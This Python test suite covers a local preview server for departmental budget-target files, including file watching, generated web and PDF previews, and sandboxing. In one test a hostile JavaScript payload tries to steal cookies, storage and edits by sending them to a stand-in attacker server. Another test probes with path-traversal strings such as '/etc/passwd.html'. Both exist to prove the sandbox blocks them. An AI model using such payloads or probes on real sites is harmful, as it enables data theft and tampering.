"""What the window shows without anybody typing: files that other programs change, and the tabs beside the form."""

from __future__ import annotations

import asyncio
import http.client
import http.server
import json
import os
import re
import shutil
import signal
import socket
import threading
import time
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
import watchfiles

from benchmarks.serve import Work
from perfgen.project.layout import DataFile
from perfgen.project.snapshot import Project
from perfgen.serving.watching import Seen, Touched, changes
from tests.helpers.browsing import TOOLS, launched, opened
from tests.helpers.people import git_as
from tests.helpers.serving import CLERK, Served, samples, serving
from tests.helpers.waiting import is_running, until

SOURCE = "data/2025/示例市档案馆.yaml"
LAST_YEAR = "data/2024/示例市档案馆.yaml"
GOAL = "做好档案接收、保管、数字化和开放利用"
PROMISE = "≥98%"
SECONDS = 20.0


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    root = samples(tmp_path_factory.mktemp("live") / "项目", git=True)
    with serving(root) as found:
        yield found


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with launched() as found:
        yield found


@pytest.fixture
def root(served: Served) -> Iterator[Path]:
    """The project that is served; what a test changed is put back, and the server has noticed."""
    folder = Path(served.process.args[4])  # type: ignore[index,arg-type]
    before = shown(served)
    yield folder
    git_as(CLERK, folder, "checkout", "-q", "-f", "main")
    git_as(CLERK, folder, "clean", "-fdq")
    until(lambda: shown(served) == before)


def shown(served: Served) -> Any:
    """All that the window shows of a file, but for how many changes can be taken back."""
    return {name: value for name, value in served.view(SOURCE).items() if name not in {"undo", "redo", "seen"}}


def saved_by_renaming(path: Path, old: str, new: str) -> None:
    """Saves as vim and Word do: the new text in another file, which then takes the place of the old one."""
    text = path.read_text("utf-8")
    assert old in text
    beside = path.with_name(path.name + ".swap")
    beside.write_text(text.replace(old, new, 1), "utf-8")
    beside.replace(path)


def form_of(served: Served) -> str:
    """What the form says, without its tags."""
    return re.sub("<[^>]*>", "", served.view(SOURCE)["html"]["form"])


def findings_of(served: Served) -> str:
    return re.sub("<[^>]*>", "", served.view(SOURCE)["html"]["findings"])


@contextmanager
def heard(served: Served) -> Iterator[list[dict[str, Any]]]:
    """What the server tells a window while the block runs."""
    found: list[dict[str, Any]] = []
    link = http.client.HTTPConnection("127.0.0.1", served.port, timeout=SECONDS)
    link.request("GET", f"{served.path}events")
    answer = link.getresponse()
    assert answer.readline().startswith(b"retry")

    def listen() -> None:
        with suppress(OSError, ValueError, AttributeError):
            for line in answer:
                if line.startswith(b"data: "):
                    found.append(json.loads(line[6:]))

    thread = threading.Thread(target=listen, daemon=True)
    thread.start()
    yield found
    with suppress(OSError):
        assert link.sock
        link.sock.shutdown(socket.SHUT_RDWR)
    link.close()


# what other programs do to files


def test_an_editor_that_saves_by_renaming_is_seen(served: Served, root: Path) -> None:
    assert GOAL in form_of(served)
    saved_by_renaming(root / SOURCE, GOAL, "在别处写的目标")
    until(lambda: "在别处写的目标" in form_of(served))


def test_a_file_that_is_deleted_says_so_and_comes_back(served: Served, root: Path) -> None:
    before, content = served.view(SOURCE), (root / SOURCE).read_bytes()
    (root / SOURCE).unlink()
    until(lambda: served.view(SOURCE)["version"] == "")
    gone = served.view(SOURCE)
    assert gone["broken"]
    assert "不在了" in gone["html"]["findings"]
    assert GOAL in gone["html"]["form"]
    (root / SOURCE).write_bytes(content)
    until(lambda: served.view(SOURCE)["seen"] == before["seen"])  # what is known of its neighbours comes a little later


def test_a_broken_file_shows_its_findings_over_the_last_good_form_until_it_is_mended(
    served: Served, root: Path
) -> None:
    text = (root / SOURCE).read_text("utf-8")
    served.view(SOURCE)
    (root / SOURCE).write_text(text + "\n  - : [\n", "utf-8")
    until(lambda: served.view(SOURCE)["broken"])
    broken = served.view(SOURCE)
    assert "读不出来" in broken["html"]["findings"]
    assert "yaml-" in broken["html"]["findings"]
    assert 'class="sheet stale"' in broken["html"]["form"]
    (root / SOURCE).write_text(text, "utf-8")
    until(lambda: not served.view(SOURCE)["broken"])


def test_schema_rules_settings_and_last_years_file_are_followed_too(served: Served, root: Path) -> None:
    before = served.view(SOURCE)

    saved_by_renaming(root / "schema/department-target.schema.json", '"title": "', '"title": "改了的')
    until(lambda: served.view(SOURCE)["seen"] != before["seen"])

    git_as(CLERK, root, "checkout", "-q", "-f", "main")
    until(lambda: served.view(SOURCE)["seen"] == before["seen"])
    (root / "schema/department-target.rules.yaml").write_text("规则: [\n", "utf-8")
    until(lambda: served.view(SOURCE)["broken"])
    assert "department-target.rules.yaml" in served.view(SOURCE)["html"]["findings"]
    assert served.view(SOURCE)["version"] == before["version"]

    git_as(CLERK, root, "checkout", "-q", "-f", "main")
    until(lambda: served.view(SOURCE)["seen"] == before["seen"])
    (root / LAST_YEAR).unlink()
    until(lambda: served.view(SOURCE)["seen"] != before["seen"])


def test_a_branch_that_is_checked_out_is_seen_at_once(served: Served, root: Path) -> None:
    git_as(CLERK, root, "checkout", "-q", "-b", "另一个")
    for path in sorted((root / "data/2025").glob("*.yaml")):
        path.write_text(path.read_text("utf-8") + "# 另一个分支\n", "utf-8")
    saved_by_renaming(root / SOURCE, GOAL, "另一个分支的目标")
    git_as(CLERK, root, "commit", "-qam", "另一个")
    until(lambda: "另一个分支的目标" in form_of(served))
    with heard(served) as told:
        git_as(CLERK, root, "checkout", "-q", "main")
        until(lambda: GOAL in form_of(served))
        until(lambda: any(SOURCE in one["files"] for one in told))
    assert len(told) <= 3  # a slow checkout is seen in parts


def test_what_the_window_saves_itself_is_told_once(served: Served, root: Path) -> None:
    with heard(served) as told:
        slot = next(slot for slot in served.view(SOURCE)["slots"] if slot["typed"].startswith(GOAL))
        assert served.put(SOURCE, slot["path"], "自己写的目标").status == 200
        until(lambda: told)
        time.sleep(1.5)
    assert [one["files"] for one in told] == [[SOURCE]]
    assert told[0]["seen"] == served.view(SOURCE)["seen"]


def test_a_window_that_knows_it_all_is_told_nothing_more(served: Served) -> None:
    seen = served.view(SOURCE)["seen"]
    assert served.get(f"api/window?seen={seen}&file={quote(SOURCE)}").json() == {"seen": seen}


# the watching itself


def watched(folder: Path, act: Callable[[], object], until_seen: Callable[[list[Touched]], bool]) -> list[Touched]:
    """What is noticed of an act in a folder."""
    found: list[Touched] = []

    async def follow() -> None:
        async for touched in changes(folder):
            found.append(touched)

    async def run() -> None:
        task = asyncio.create_task(follow())
        await asyncio.sleep(1)
        act()
        for _ in range(1_500):
            if until_seen(found):
                break
            await asyncio.sleep(0.02)
        task.cancel()
        with suppress(asyncio.CancelledError):
            await task

    asyncio.run(run())
    return found


def test_new_folders_and_what_comes_to_stand_in_them_are_seen(tmp_path: Path) -> None:
    (tmp_path / "data").mkdir()

    def act() -> None:
        (tmp_path / "data/2030/科室").mkdir(parents=True)
        (tmp_path / "data/2030/科室/a.yaml").write_text("1")
        (tmp_path / "templates/form").mkdir(parents=True)
        (tmp_path / "templates/form/page.html").write_text("1")

    wanted = {"data/2030/科室/a.yaml", "templates/form/page.html"}
    found = watched(tmp_path, act, lambda seen: wanted <= {path for one in seen for path in one.moved})
    assert wanted <= {path for one in found for path in one.moved}


@pytest.mark.parametrize("silent", [False, True], ids=["polling", "no word from the system"])
def test_changes_are_seen_where_the_system_tells_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, silent: bool
) -> None:
    (tmp_path / "data/2025").mkdir(parents=True)
    (tmp_path / "data/2025/a.yaml").write_text("1")

    async def quiet(*_: Path, **__: object) -> AsyncIterator[set[tuple[int, str]]]:
        while True:
            await asyncio.sleep(0.05)
            yield set()

    if silent:
        monkeypatch.setattr(watchfiles, "awatch", quiet)
    else:
        monkeypatch.setenv("WATCHFILES_FORCE_POLLING", "1")

    def act() -> None:
        (tmp_path / "data/2025/a.yaml").write_text("22")

    found = watched(tmp_path, act, bool)
    assert {path for one in found for path in one.written} == {"data/2025/a.yaml"}


@pytest.mark.skipif(os.name == "nt", reason="links need rights there")
def test_no_link_is_followed_out_of_the_project(tmp_path: Path) -> None:
    outside, project = tmp_path / "outside", tmp_path / "project"
    outside.mkdir()
    (outside / "a.yaml").write_text("1")
    (project / "data/2025").mkdir(parents=True)
    (project / "data/2025/link").symlink_to(outside)
    (project / "schema").symlink_to(outside)
    seen = Seen.of(project)
    assert seen.stamps.keys() == {"data/2025/link"}
    assert seen.folders == {"data", "data/2025"}

    def act() -> None:
        (outside / "a.yaml").write_text("2")
        (project / "data/2025/b.yaml").write_text("1")

    found = watched(project, act, lambda seen: any("data/2025/b.yaml" in one.moved for one in seen))
    assert {path for one in found for path in one.moved | one.written} == {"data/2025/b.yaml"}


@pytest.mark.skipif(os.name == "nt", reason="links need rights there")
def test_what_is_read_through_a_link_inside_the_project_changes_with_it(tmp_path: Path) -> None:
    (tmp_path / "data/全部").mkdir(parents=True)
    (tmp_path / "data/全部/a.yaml").write_text("1")
    (tmp_path / "data/2025").symlink_to("全部")
    project = Project.on_disk(tmp_path)
    project.read("data/2025/a.yaml")
    found = watched(tmp_path, lambda: (tmp_path / "data/全部/a.yaml").write_text("22"), bool)
    assert "data/2025/a.yaml" in found[0].changed(project)


def test_only_what_is_no_longer_as_it_was_read_counts_as_changed(tmp_path: Path) -> None:
    (tmp_path / "data/2025").mkdir(parents=True)
    one, other = tmp_path / "data/2025/a.yaml", tmp_path / "data/2025/b.yaml"
    for path in (one, other):
        path.write_text("1")
    project = Project.on_disk(tmp_path)
    for source in ("data/2025/a.yaml", "data/2025/b.yaml"):
        project.read(source)
    one.write_text("2")
    other.write_text("1")
    (tmp_path / "data/2025/c.yaml").write_text("1")
    touched = Touched(frozenset(), frozenset({f"data/2025/{name}.yaml" for name in "abc"}))
    assert touched.changed(project) == {"data/2025/a.yaml", "data/2025/c.yaml"}  # c may have been read elsewhere


# the tabs, as the server makes them


def test_the_public_page_is_made_for_a_look_with_what_it_needs(served: Served) -> None:
    state = served.get(f"api/page?file={quote(SOURCE)}").json()
    assert state["version"] == served.view(SOURCE)["version"]
    assert state["said"] == ""
    page = served.ask("GET", state["address"])
    assert page.status == 200
    assert page.headers["content-security-policy"].startswith("sandbox allow-scripts; default-src 'none'")
    assert "示例市档案馆" in page.text
    style = re.search(r'href="((?:\.\./)+assets/site\.[0-9a-f]+\.css)"', page.text)
    assert style
    base = state["address"].rsplit("/", 1)[0]
    found = served.ask("GET", os.path.normpath(f"{base}/{style[1]}"))
    assert (found.status, found.headers["content-type"].split(";")[0]) == (200, "text/css")
    table = served.ask("GET", f"{base}/table.html")
    assert (table.status, table.headers["content-security-policy"]) == (200, page.headers["content-security-policy"])


def test_a_page_that_is_not_public_yet_says_what_is_missing_and_shows_it_all_the_same(
    served: Served, root: Path
) -> None:
    settings = (root / "data/site.yaml").read_text("utf-8")
    (root / "data/site.yaml").write_text(settings.split("# 批复后")[0], "utf-8")
    state = until(lambda: one if "没有批复日期和公开日期" in (one := page_state(served))["said"] else None)
    assert "还没有公开" in state["said"]
    assert "日期先用今天" in state["said"]
    assert served.ask("GET", state["address"]).status == 200


def page_state(served: Served) -> Any:
    return served.get(f"api/page?file={quote(SOURCE)}").json()


def test_nothing_is_made_of_a_file_with_errors_and_it_says_why(served: Served, root: Path) -> None:
    saved_by_renaming(root / SOURCE, "年度: 2025", "年度: 二〇二五")
    until(lambda: served.view(SOURCE)["counts"]["errors"])
    for kind in ("page", "papers"):
        state = served.get(f"api/{kind}?file={quote(SOURCE)}").json()
        assert "错误" in state["said"]
        assert not state.get("address")
        assert not state.get("files")
    (root / SOURCE).write_text("a: [\n", "utf-8")
    until(lambda: served.view(SOURCE)["broken"])
    for kind in ("page", "papers", "changes"):
        answer = served.get(f"api/{kind}?file={quote(SOURCE)}").json()
        assert answer.get("said") or answer["html"]


def test_other_public_pages_come_from_the_last_build_and_nothing_else_does(served: Served, root: Path) -> None:
    public, preview = root / "build/public", page_state(served)["address"].split("/")[1]
    (public / "2025").mkdir(parents=True)
    (public / "index.html").write_text("<p>首页</p>", "utf-8")
    (root / "build/official").mkdir()
    (root / "build/official/a.html").write_text("内部", "utf-8")
    (public / "out.html").symlink_to(root / "build/official/a.html")
    try:
        home = served.ask("GET", f"/{preview}/public/")
        assert (home.status, home.text) == (200, "<p>首页</p>")
        assert home.headers["content-security-policy"].startswith("sandbox allow-scripts;")
        up = [f"{one}official/a.html" for one in ("../", "%2e%2e/", "..%5c", "2025/../../")]
        for path in ("2025/none.html", "out.html", "/etc/passwd.html", "%00.html", "2025/a.pdf", *up):
            answer = served.ask("GET", f"/{preview}/public/{path}")
            assert answer.status in (403, 404), path
            assert "内部" not in answer.text
        for path in ("api/window?file=data/2025/a.yaml", "events", "static/view.js", ""):
            assert served.ask("GET", f"/{preview}/{path}").status == 404
        assert served.ask("POST", f"/{preview}/public/index.html").status == 403
    finally:
        shutil.rmtree(root / "build")


def changes_of(served: Served, since: str) -> str:
    found = served.get(f"api/changes?file={quote(SOURCE)}&since={since}").json()["html"]
    assert isinstance(found, str)
    return found


def test_what_changed_is_told_since_the_base_and_against_last_year(served: Served, root: Path) -> None:
    assert "没有改动" in changes_of(served, "base")
    saved_by_renaming(root / SOURCE, PROMISE, "≥93.7%")
    until(lambda: "≥93.7%" in form_of(served))
    told = changes_of(served, "base")
    assert "放宽 1 项（都没有理由）" in told
    assert "由 ≥98% 改为 ≥93.7%" in told
    assert 'data-reason="[&#34;' in told
    assert "data-lead=" in told
    assert "放宽" in changes_of(served, "year")


def test_a_reason_that_is_written_answers_the_change(served: Served, root: Path) -> None:
    saved_by_renaming(root / SOURCE, PROMISE, "≥93.7%")
    until(lambda: "≥93.7%" in form_of(served))
    path = re.search(r'data-reason="([^"]+)"', changes_of(served, "base"))
    assert path
    assert served.put(SOURCE, json.loads(path[1].replace("&#34;", '"')), "上级把口径改了").status == 200
    told = changes_of(served, "base")
    assert "上级把口径改了" in told
    assert "没有理由" not in told


def test_outside_git_it_is_said_that_there_is_nothing_to_compare_with(tmp_path: Path) -> None:
    folder = samples(tmp_path / "项目")
    with serving(folder) as alone:
        assert "不是 git 仓库" in changes_of(alone, "base")
        assert "放宽" in changes_of(alone, "year")


def test_what_is_made_is_made_again_after_a_change_and_otherwise_kept(served: Served, root: Path) -> None:
    first = served.ask("GET", page_state(served)["address"]).content
    assert served.ask("GET", page_state(served)["address"]).content == first
    path = root / "templates/department-target/page.html"
    saved_by_renaming(path, "金额单位为万元。", "金额单位为万元（改了模板）。")
    until(lambda: "改了模板" in served.ask("GET", page_state(served)["address"]).text)


@pytest.fixture(scope="module")
def printing(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """Another server: only tests that are marked so may make PDFs, and their processes."""
    with serving(samples(tmp_path_factory.mktemp("printing") / "项目")) as found:
        yield found


@pytest.mark.pdf
def test_the_pdf_is_shown_as_pictures_and_both_files_can_be_kept(printing: Served) -> None:
    answer = printing.get(f"api/papers?file={quote(SOURCE)}")
    assert answer.status == 200, answer.text
    state = answer.json()
    assert state["said"] == ""
    assert len(state["pages"]) >= 2
    assert [one["name"] for one in state["files"]] == ["2025-示例市档案馆.docx", "2025-示例市档案馆.pdf"]
    picture = printing.get(f"paper/0.png?file={quote(SOURCE)}")
    assert picture.content.startswith(b"\x89PNG")
    assert int.from_bytes(picture.content[16:20]) == state["pages"][0][0]
    for suffix, begin in (("pdf", b"%PDF-"), ("docx", b"PK")):
        kept = printing.get(f"paper/{suffix}?file={quote(SOURCE)}")
        assert kept.content.startswith(begin)
        assert kept.headers["content-disposition"].startswith("attachment; filename*=UTF-8''2025-")
    assert printing.get(f"paper/99.png?file={quote(SOURCE)}").status == 404
    assert printing.get(f"paper/0.png?file={quote(LAST_YEAR)}").status == 404


def test_form_and_findings_after_a_save_cost_no_more_than_three_checks(tmp_path: Path) -> None:
    check, show, ratio = Work(samples(tmp_path / "项目"), DataFile.at(SOURCE)).ratios()
    assert ratio <= 3, f"{check:.3f} s, {show:.3f} s"


# in a browser


@pytest.mark.browser
def test_a_save_elsewhere_marks_what_changed_and_scrolls_to_it(served: Served, root: Path, browser: Any) -> None:
    page = opened(browser, served.window(SOURCE), viewport={"width": 1280, "height": 500})
    page.wait_for_selector(".official")
    assert not page.locator(".changed").count()
    saved_by_renaming(root / SOURCE, PROMISE, "≥93.7%")
    page.wait_for_selector(".changed")
    assert page.locator(".changed").all_inner_texts() == ["≥93.7%"]
    assert page.locator(".changed").evaluate(
        "e => { const b = e.getBoundingClientRect(); return b.top >= 0 && b.bottom <= innerHeight }"
    )
    assert page.said == []


@pytest.mark.browser
def test_the_form_is_grey_as_long_as_its_file_is_broken_or_gone(served: Served, root: Path, browser: Any) -> None:
    page = opened(browser, served.window(SOURCE), viewport={"width": 1280, "height": 900})
    page.wait_for_selector(".official")
    text = (root / SOURCE).read_text("utf-8")
    (root / SOURCE).write_text("a: [\n", "utf-8")
    page.wait_for_selector(".sheet.stale")
    page.wait_for_selector("#findings .broken:has-text('读不出来')")
    assert "读不出来" in page.inner_text("#state")
    assert page.locator("#form .broken").is_visible()
    assert GOAL in page.inner_text("#form")
    page.click(f"#form .slot:has-text('{GOAL}')")
    assert page.locator(".editing").count() == 0
    (root / SOURCE).unlink()
    page.wait_for_selector("#findings .broken:has-text('不在了')")
    (root / SOURCE).write_text(text, "utf-8")
    page.wait_for_selector(".sheet:not(.stale)")
    page.wait_for_selector("#findings .broken", state="detached")
    page.wait_for_selector("#form .broken", state="detached")
    assert "已保存" in page.inner_text("#state")


@pytest.mark.browser
def test_the_tabs_are_chosen_with_the_keyboard_and_lead_to_the_form(served: Served, root: Path, browser: Any) -> None:
    saved_by_renaming(root / SOURCE, PROMISE, "≥93.7%")
    until(lambda: "≥93.7%" in form_of(served))
    page = opened(browser, served.window(SOURCE), viewport={"width": 1280, "height": 900})
    page.wait_for_selector(".official")
    page.focus("role=tab[name='检查']")
    page.keyboard.press("ArrowRight")
    page.wait_for_selector("role=tab[name='改了什么'][selected=true]")
    page.wait_for_selector("#changes .change.open")
    page.click("#changes .change.open .there")
    until(lambda: page.evaluate("document.activeElement.closest('#form td')?.textContent.includes('≥93.7%')"))
    page.fill("#changes .change.open textarea", "上级把口径改了")
    page.click("#changes .change.open [data-save]")
    page.wait_for_selector("#changes .change:not(.open) >> text=放宽")
    assert "上级把口径改了" in (root / SOURCE).read_text("utf-8")
    page.click("role=radio[name='和去年比']")
    page.wait_for_selector("#changes .change >> nth=5")
    assert page.said == []


HOSTILE = """<script>
const done = (name, found) => document.documentElement.setAttribute("data-" + name, found);
const refused = (name, run) => { try { done(name, run() ?? "done"); } catch (error) { done(name, "refused"); } };
const here = location.origin;
const body = JSON.stringify({file: "data/2025/示例市档案馆.yaml", version: "", path: ["部门职能概述"], text: "偷改"});
refused("parent", () => parent.document.title);
refused("frame", () => parent.frames[0].location.href.includes("api") || "own");
refused("storage", () => localStorage.length);
refused("cookie", () => document.cookie);
refused("top", () => { top.location.href = EVIL + "top"; });
refused("opened", () => window.open(EVIL + "opened") ? "open" : "refused");
const asked = [
  fetch(here + "/api/put", {method: "POST", body}).then(() => "done", () => "refused"),
  fetch(EVIL + "fetch").then(() => "done", () => "refused"),
  fetch(location.href).then(() => "done", () => "refused"),
  fetch("index.html").then(() => "done", () => "refused"),
];
Promise.all(asked).then((found) => done("asked", found.join(" ")));
new Image().src = EVIL + "image";
navigator.sendBeacon(EVIL + "beacon", body);
try { new WebSocket(EVIL.replace("http", "ws") + "socket"); } catch {}
try { new Worker("data:text/javascript,fetch('" + EVIL + "worker')"); } catch {}
const add = (name, members) => document.head.append(Object.assign(document.createElement(name), members));
add("script", {src: EVIL + "script"});
add("link", {rel: "stylesheet", href: EVIL + "style"});
add("link", {rel: "prefetch", href: EVIL + "prefetch"});
add("iframe", {src: EVIL + "inner"});
addEventListener("DOMContentLoaded", () => {
  document.body.append(Object.assign(document.createElement("iframe"), {src: EVIL + "inner"}));
  for (const action of [EVIL + "form", here + "/api/put"]) {
    const form = Object.assign(document.createElement("form"), {method: "POST", action, target: "_top"});
    document.body.append(form);
    form.submit();
  }
  setTimeout(() => { done("end", "here"); }, 1500);
  setTimeout(() => { location.href = EVIL + "self"; }, 2500);
});
</script>
"""


@contextmanager
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """A server of somebody else, and what it was asked for."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET  # as the library calls it

        def log_message(self, *_: object) -> None:
            """Says nothing."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/", asked
        server.shutdown()


def widened(route: Any) -> None:
    """Gives a page with a policy that lets all of its own scripts run: what else keeps them in is tried so."""
    answer = route.fetch()
    policy = re.sub(
        "script-src [^;]+;", "script-src 'self' 'unsafe-inline';", answer.headers["content-security-policy"]
    )
    assert "unsafe-inline" in policy
    route.fulfill(response=answer, headers={**answer.headers, "content-security-policy": policy})


@pytest.mark.browser
@pytest.mark.parametrize("runs", [False, True], ids=["as it is", "were its scripts run"])
def test_a_hostile_page_reaches_nothing(served: Served, root: Path, browser: Any, runs: bool) -> None:
    frame_of_pages = root / "templates/shared/site-page.html"
    text = frame_of_pages.read_text("utf-8")
    policy = re.search(r"<meta http-equiv=\"Content-Security-Policy\".*?>\n", text, re.DOTALL)
    assert policy
    before = (root / SOURCE).read_bytes()
    page = opened(browser, served.window(SOURCE), viewport={"width": 1280, "height": 900})
    page.wait_for_selector(".official")
    if runs:
        page.route("**/public/**/index.html*", widened)
    with elsewhere() as (evil, asked):
        added = f'<link rel="preconnect" href="{evil}">' + HOSTILE.replace("EVIL", json.dumps(evil))
        frame_of_pages.write_text(text.replace(policy[0], "").replace("<title>", f"{added}<title>"), "utf-8")
        until(lambda: "sendBeacon" in served.ask("GET", page_state(served)["address"]).text)
        page.click("role=tab[name='网页']")
        frame = page.wait_for_selector("#page iframe").content_frame()
        frame.wait_for_selector("html[data-end=here][data-asked]" if runs else "html[data-text]", state="attached")
        found = frame.evaluate("({...document.documentElement.dataset})")
        page.wait_for_timeout(2000)
        address = page.url
        assert page.context.pages == [page]
        page.close()
    if runs:
        assert found["asked"] == "refused refused refused refused"
        assert {found[name] for name in ("parent", "storage", "cookie", "top", "opened")} == {"refused"}
        assert found["frame"] in ("own", "refused")
    else:  # the site's own script did run, and said how large its text is
        assert found.keys() == {"text"}
    assert address == served.window(SOURCE)
    assert asked == []
    assert (root / SOURCE).read_bytes() == before


@pytest.mark.skipif(os.name == "nt", reason="asks for a process by its number")
@pytest.mark.pdf
def test_ctrl_c_ends_a_preview_that_is_being_made(tmp_path: Path) -> None:
    with serving(samples(tmp_path / "项目")) as found:
        threading.Thread(
            target=lambda: ended(lambda: found.get(f"api/papers?file={quote(SOURCE)}")), daemon=True
        ).start()
        child = until(lambda: children(found.process.pid))
        found.process.send_signal(signal.SIGINT)
        assert found.process.wait(10) == 0
        until(lambda: not any(map(is_running, child)))


def ended(ask: Callable[[], object]) -> None:
    """Asks for something of which no answer may come."""
    with suppress(OSError, http.client.HTTPException):
        ask()


def children(number: int) -> list[int]:
    """The processes that a process has started to work for it."""
    found = Path(f"/proc/{number}/task/{number}/children")
    if not found.exists():
        pytest.skip("asks Linux which processes there are")
    all_tasks = [task / "children" for task in Path(f"/proc/{number}/task").iterdir()]
    numbers = [int(one) for task in all_tasks if task.exists() for one in task.read_text().split()]
    return [one for one in numbers if b"worker_process" in Path(f"/proc/{one}/cmdline").read_bytes()]


@pytest.mark.pdf
@pytest.mark.browser
def test_the_pdf_in_the_window_is_made_again_after_a_save(printing: Served, browser: Any) -> None:
    root = Path(printing.process.args[4])  # type: ignore[index,arg-type]
    page = opened(browser, printing.window(SOURCE), viewport={"width": 1280, "height": 900})
    page.wait_for_selector(".official")
    page.click("role=tab[name='PDF']")
    picture = page.locator("#papers img").first
    picture.wait_for()
    until(lambda: picture.evaluate("e => e.naturalWidth") > 1000)
    assert picture.get_attribute("alt").startswith("PDF 第 1 页")
    before = picture.get_attribute("src")
    saved_by_renaming(root / SOURCE, GOAL, "另一个目标")
    until(lambda: picture.get_attribute("src") != before)
    page.wait_for_selector("#papers .state:has-text('做好')")
    with page.expect_download() as download:
        page.click("text=下载 Word")
    assert download.value.suggested_filename == "2025-示例市档案馆.docx"
    assert page.said == []


@pytest.mark.browser
@pytest.mark.pdf
@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 390])
def test_no_tab_shuts_readers_out(printing: Served, browser: Any, width: int, scheme: str) -> None:
    page = browser.new_page(bypass_csp=True, color_scheme=scheme, viewport={"width": width, "height": 800})
    page.goto(printing.window(SOURCE))
    page.wait_for_selector(".official")
    for title, shown in (("改了什么", "#changes .change"), ("网页", "#page iframe"), ("PDF", "#papers img")):
        page.click(f"role=tab[name='{title}']")
        if title == "改了什么":
            page.click("role=radio[name='和去年比']")
        page.wait_for_selector(shown)
        page.add_script_tag(content=(TOOLS / "axe-core/axe.min.js").read_text("utf-8"))
        result = page.evaluate("axe.run('#side', {resultTypes: ['violations'], iframes: false})")
        assert result["violations"] == []
        assert page.evaluate("document.querySelector('#side').scrollWidth <= innerWidth")
    page.close()
